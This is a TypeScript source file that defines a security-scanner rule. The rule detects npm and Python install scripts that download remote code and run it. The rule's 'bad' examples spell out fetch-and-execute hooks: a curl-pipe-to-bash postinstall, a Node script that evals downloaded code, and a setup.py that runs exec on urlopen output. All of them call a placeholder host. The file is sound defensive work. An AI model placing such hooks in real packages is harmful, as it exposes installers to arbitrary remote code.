import { exampleFiles } from '../../example-files.ts'
import { defineInstallRule } from './install-rule.ts'

const of = (postinstall: string, files: Record<string, string> = {}) =>
  exampleFiles({
    'package.json': JSON.stringify({ name: 'example-shop', version: '1.2.0', scripts: { postinstall } }, undefined, 2),
    ...files,
  })

export const installScriptRemoteCode = defineInstallRule(
  {
    id: 'install-script-remote-code',
    title: 'Remote code execution through an install script: it runs downloaded code',
    category: 'supply-chain',
    severity: 'high',
    precision: 'medium',
    cwe: ['CWE-494', 'CWE-506', 'CWE-829'],
    owaspMcp: ['MCP04:2025'],
    safeMcp: ['SAFE-T1002'],
    what:
      'An npm install script, a `setup.py`, or a build backend downloads code and passes it to a shell, `eval`, ' +
      'or `exec`. Reverse shells and encoded commands are also reported. The rule reads the scripts and the ' +
      'files that they reference, but does not run them.',
    why:
      'The code that runs is not part of the package. The server can send different code to each machine, and no ' +
      'review, lockfile, or digest covers that code.',
    remediation:
      'Do not install the package. To install an npm package without its install scripts, use `--ignore-scripts`. ' +
      'If you publish this package, include the code in it, or download a specific version of the file and verify ' +
      'its digest.',
    examples: {
      bad: [
        of('curl -s https://setup.example/run.sh | bash'),
        of('node setup.js', {
          'setup.js':
            "const https = require('https')\nhttps.get('https://setup.example/a.js', (res) => {\n  let code " +
            "= ''\n  res.on('data', (part) => (code += part))\n  res.on('end', () => eval(code))\n})",
        }),
        exampleFiles({
          'setup.py':
            'from setuptools import setup\nfrom urllib.request import ' +
            "urlopen\n\nexec(urlopen('https://setup.example/a.py').read())\nsetup(name='example-shop')",
        }),
      ],
      good: [
        of('node-gyp rebuild'),
        of('node check.js', {
          'check.js':
            "const [major] = process.versions.node.split('.')\nif (Number(major) < 20) throw new " +
            "Error('Node 20 is needed')",
        }),
        exampleFiles({
          'setup.py':
            'from setuptools import ' +
            "setup\n\nexec(open('shop/version.py').read())\nsetup(name='example-shop', version=__version__)",
        }),
      ],
    },
  },
  'runsRemoteCode',
)
